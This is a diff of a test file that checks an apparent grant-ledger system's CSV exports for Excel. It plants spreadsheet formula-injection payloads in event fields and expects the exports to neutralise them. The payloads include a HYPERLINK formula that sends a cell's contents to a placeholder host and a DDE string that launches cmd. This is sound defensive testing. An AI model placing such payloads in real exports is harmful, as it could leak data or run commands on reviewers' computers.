@@ -13,7 +13,7 @@ import { anEvent, collect, testMetadata } from '../support/events.js';
 /** What an attacker types into free-text fields, hoping an auditor's spreadsheet runs it. */
 const formulas = {
   reason: '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
-  actorId: '+cmd|\' /C calc\'!A0',
+  actorId: "+cmd|' /C calc'!A0",
   name: '@SUM(1+1)恶意公司',
   note: '-2+3 退回',
   tab: '\t=1+1',
@@ -30,12 +30,31 @@ describe('exports for Excel', () => {
     store = new SqliteEventStore({ path: ':memory:' });
     await generateSynthetic((await openLedgerCommands(store)).commands, { applications: 30, seed: 5 });
     // An enterprise and an application whose texts are formulas: the exports must show them as text.
-    await store.append(streams.enterprise(uscc), [anEvent('EnterpriseRegistered', { uscc, name: formulas.name, city: 'baoding', district: null, tags: [], usccCheckOverrideReason: null })], 'no-stream');
+    await store.append(
+      streams.enterprise(uscc),
+      [anEvent('EnterpriseRegistered', { uscc, name: formulas.name, city: 'baoding', district: null, tags: [], usccCheckOverrideReason: null })],
+      'no-stream',
+    );
     const metadata = { ...testMetadata, actorId: formulas.actorId, actorRole: 'reviewer', recordedAt: '2025-12-31T17:30:00.000Z' };
     await store.append(
       streams.application(applicationId),
       [
-        anEvent('ApplicationSubmitted', { applicationId, programmeId: 'baoding-data-voucher', programmeVersion: 1, uscc, fiscalYear: 2025, matterKey: null, level: null, approvalRef: null, items: [], claimedTotal: '1234567.89' }, { metadata }),
+        anEvent(
+          'ApplicationSubmitted',
+          {
+            applicationId,
+            programmeId: 'baoding-data-voucher',
+            programmeVersion: 1,
+            uscc,
+            fiscalYear: 2025,
+            matterKey: null,
+            level: null,
+            approvalRef: null,
+            items: [],
+            claimedTotal: '1234567.89',
+          },
+          { metadata },
+        ),
         anEvent('StageReviewed', { applicationId, stage: formulas.tab, recognizedAmount: '0.10', reason: formulas.carriage, final: false }, { metadata }),
         anEvent('ApplicationRejected', { applicationId, stage: null, reason: formulas.reason, objectionId: null }, { metadata }),
       ],
@@ -74,9 +93,25 @@ describe('exports for Excel', () => {
     const { text, rows } = await csvOf('business');
     expect(text.startsWith('\uFEFF')).toBe(true);
     const [header, ...body] = rows;
-    expect(header).toEqual(['日志位置', '记录时间（北京时间）', '业务类别', '事项', '申请编号', '项目', '统一社会信用代码', '企业名称', '金额（元）', '单据编号', '原因或说明', '操作人', '操作角色', '事件类型']);
+    expect(header).toEqual([
+      '日志位置',
+      '记录时间（北京时间）',
+      '业务类别',
+      '事项',
+      '申请编号',
+      '项目',
+      '统一社会信用代码',
+      '企业名称',
+      '金额（元）',
+      '单据编号',
+      '原因或说明',
+      '操作人',
+      '操作角色',
+      '事件类型',
+    ]);
     const types = new Set(body.map((row) => row[13]));
-    for (const bookkeeping of ['AwardCommitted', 'AwardGranted', 'CommandProcessed', 'ProgrammePublished', 'DisbursementIndexed', 'InvoiceClaimed']) expect(types).not.toContain(bookkeeping);
+    for (const bookkeeping of ['AwardCommitted', 'AwardGranted', 'CommandProcessed', 'ProgrammePublished', 'DisbursementIndexed', 'InvoiceClaimed'])
+      expect(types).not.toContain(bookkeeping);
     for (const business of ['ApplicationSubmitted', 'AwardApproved', 'DisbursementConfirmed', 'NoticeOpened']) expect(types).toContain(business);
     const ours = body.filter((row) => row[4] === applicationId);
     expect(ours.map((row) => row[3])).toEqual(['提交申请', '审核', '驳回申请', '退回拨付']);
